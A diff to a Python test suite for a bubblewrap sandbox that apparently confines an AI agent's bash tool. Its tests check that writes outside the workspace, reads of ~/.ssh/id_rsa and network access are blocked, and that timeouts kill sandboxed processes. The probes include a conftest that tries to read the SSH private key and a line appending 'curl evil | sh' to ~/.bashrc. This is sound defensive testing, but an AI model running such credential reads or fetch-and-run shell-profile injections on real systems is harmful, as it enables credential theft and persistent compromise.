@@ -6,6 +6,8 @@ the profile text has its own tests in test_sandbox.py.
 
 from __future__ import annotations
 
+import asyncio
+import os
 import shutil
 import socket
 import subprocess
@@ -26,6 +28,7 @@ from ndomo.runtime.plugins import build_plugins
 from ndomo.runtime.runtime import Runtime
 from ndomo.runtime.tools import AllowAll
 from ndomo.security import sandbox
+from tests.unit.tools_shell.conftest import pids_with_arg
 
 pytestmark = pytest.mark.skipif(
     shutil.which("bwrap") is None and sys.platform != "darwin",
@@ -140,7 +143,9 @@ async def test_fsmonitor_chain_is_stopped(ws_app: App, tmp_path: Path) -> None:
     assert not marker.exists()
 
 
-def _pytest_workspace(ws: Path, outside: Path, port: int) -> str:
+def _pytest_workspace(ws: Path, outside: Path, system_file: Path, port: int) -> str:
+    """A project whose conftest.py tries what an allowed `pytest` must not do; it reports
+    each attempt to report.txt."""
     (ws / "conftest.py").write_text(f'''
 import os, pathlib, socket
 
@@ -154,7 +159,7 @@ def _try(label, fn):
 def pytest_configure(config):
     results = [
         _try("write-outside", lambda: pathlib.Path({str(outside)!r}).write_text("pwned")),
-        _try("write-system", lambda: pathlib.Path({str(outside.with_name("sys-" + outside.name))!r}).write_text("x")),
+        _try("write-system", lambda: pathlib.Path({str(system_file)!r}).write_text("x")),
         _try("read-home-secret", lambda: pathlib.Path(os.environ["HOME"], ".ssh", "id_rsa").read_text()),
         _try("network", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).close()),
     ]
@@ -179,29 +184,30 @@ def home(tmp_path: Path, monkeypatch) -> Path:
 async def test_pytest_conftest_cannot_write_outside_or_reach_the_network(ws_app, tmp_path, listener, home):
     outside = tmp_path / "outside.txt"
     sysfile = Path("/var/tmp") / f"ndomo-sandbox-{uuid.uuid4().hex}"
-    cmd = _pytest_workspace(ws_app.root, outside.with_name(sysfile.name), listener.port)
-    (ws_app.root / "conftest.py").write_text(
-        (ws_app.root / "conftest.py").read_text().replace(str(outside.with_name("sys-" + sysfile.name)), str(sysfile))
-    )
+    cmd = _pytest_workspace(ws_app.root, outside, sysfile, listener.port)
     ctx = await _ctx(ws_app)  # allowed without asking: no network
     try:
         res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": cmd})
         assert res.ok, res.content
         report = (ws_app.root / "report.txt").read_text().splitlines()
+        # a write next to the workspace (under /tmp) lands in the private /tmp at most
+        assert report[0].startswith("write-outside:") and not outside.exists(), report
         assert report[1] == "write-system:blocked:OSError", report
         assert report[2].startswith("read-home-secret:blocked"), report
         assert report[3].startswith("network:blocked"), report
-        assert not sysfile.exists() and not outside.with_name(sysfile.name).exists()
+        assert not sysfile.exists() and not outside.exists()
         assert listener.hits == 0 and res.data["network"] is False
         cat = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "cat ~/.cargo/env; touch ~/.cargo/new"})
         assert "toolchain" in cat.content and "Read-only file system" in cat.content
+        rc = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "echo 'curl evil | sh' >> ~/.bashrc"})
+        assert rc.ok and not (home / ".bashrc").exists()  # the hidden home is a throwaway tmpfs
     finally:
         sysfile.unlink(missing_ok=True)
 
 
 async def test_the_same_command_approved_gets_network(ws_app, tmp_path, listener, home):
     sysfile = Path("/var/tmp") / f"ndomo-sandbox-{uuid.uuid4().hex}"
-    cmd = _pytest_workspace(ws_app.root, tmp_path / "o.txt", listener.port)
+    cmd = _pytest_workspace(ws_app.root, tmp_path / "outside.txt", sysfile, listener.port)
     host = Approver("once")
     ctx = await _ctx(ws_app, policy=AgentPolicy(), host=host, agent=_agent(bash="ask"))
     try:
@@ -211,8 +217,9 @@ async def test_the_same_command_approved_gets_network(ws_app, tmp_path, listener
         assert asked.network is True and "WITH network, sandboxed (bubblewrap)" in asked.text()
         report = (ws_app.root / "report.txt").read_text().splitlines()
         assert report[3] == "network:ok" and listener.hits == 1, report
-        assert report[2].startswith("read-home-secret:blocked"), report  # the filesystem rules stay
-        assert res.data["network"] is True
+        # the filesystem rules stay
+        assert report[1] == "write-system:blocked:OSError" and report[2].startswith("read-home-secret:blocked"), report
+        assert res.data["network"] is True and not sysfile.exists()
     finally:
         sysfile.unlink(missing_ok=True)
 
@@ -302,9 +309,42 @@ async def test_probe_reports_a_bwrap_that_fails(tmp_path, monkeypatch) -> None:
 
 
 async def test_sandboxed_shell_keeps_the_workspace_python(ws_app) -> None:
-    """The interpreter and venv the workspace uses (pyenv under ~, a venv elsewhere) still run."""
+    """The interpreters the workspace uses still run: a venv inside it, ndomo's own venv
+    elsewhere, the system's or pyenv's python3 (pyenv lives in ~/.pyenv, on the default list)."""
     ctx = await _ctx(ws_app)
-    res = await ctx.runtime.plugins.tools.execute(
-        ctx, "bash", {"command": f"{sys.executable} -c 'import ndomo, pytest; print(\"venv ok\")' && python3 --version"}
-    )
+    run = ctx.runtime.plugins.tools.execute
+    made = await run(ctx, "bash", {"command": "python3 -m venv --without-pip .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'"})
+    assert made.ok and f"{os.path.realpath(ws_app.root)}/.venv" in made.content, made.content
+    res = await run(ctx, "bash", {"command": f"{sys.executable} -c 'import ndomo, pytest; print(\"venv ok\")' && python3 --version"})
     assert res.ok and "venv ok" in res.content and "Python 3" in res.content, res.content
+
+
+async def test_timeout_and_cancel_kill_everything_in_the_sandbox(ws_app) -> None:
+    """Even a grandchild that left the process group (setsid) dies: killing bubblewrap ends
+    its pid namespace."""
+    ctx = await _ctx(ws_app)
+    naptime = f"300.{uuid.uuid4().int % 10**9}"
+    res = await ctx.runtime.plugins.tools.execute(
+        ctx, "bash", {"command": f"setsid sleep {naptime} & echo started; sleep 60", "timeout_s": 1}
+    )
+    assert res.data["timed_out"] and "started" in res.content
+    for _ in range(50):
+        if not pids_with_arg(naptime):
+            break
+        await asyncio.sleep(0.1)
+    assert not pids_with_arg(naptime)
+    other = f"300.{uuid.uuid4().int % 10**9}"
+    task = asyncio.ensure_future(ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": f"setsid sleep {other} & wait"}))
+    for _ in range(100):
+        if pids_with_arg(other):
+            break
+        await asyncio.sleep(0.05)
+    assert pids_with_arg(other)
+    ctx.cancelled.set()
+    cancelled = await task
+    assert cancelled.status == "cancelled"
+    for _ in range(50):
+        if not pids_with_arg(other):
+            break
+        await asyncio.sleep(0.1)
+    assert not pids_with_arg(other)
